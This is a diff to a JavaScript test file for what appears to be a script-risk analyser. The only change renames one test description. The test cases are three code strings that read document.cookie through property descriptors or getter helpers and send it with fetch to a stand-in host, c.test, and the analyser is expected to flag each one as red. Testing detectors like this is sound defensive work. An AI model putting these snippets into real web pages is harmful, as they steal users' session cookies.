@@ -31,7 +31,7 @@ describe("property-descriptors", () => {
 		"const o = { a: document.cookie }; const p = Object.create(null, Object.getOwnPropertyDescriptors(o)); fetch('https://c.test/' + p.a);",
 		"const d = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie'); fetch('https://c.test/' + d.get.call(document));",
 		"const o = {}; o.__defineGetter__('a', () => document.cookie); fetch('https://c.test/' + o.__lookupGetter__('a').call(o));",
-	])("a descriptor carries what the property holds: %s", (code) => {
+	])("a descriptor contains the property's value: %s", (code) => {
 		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
 	});
 });
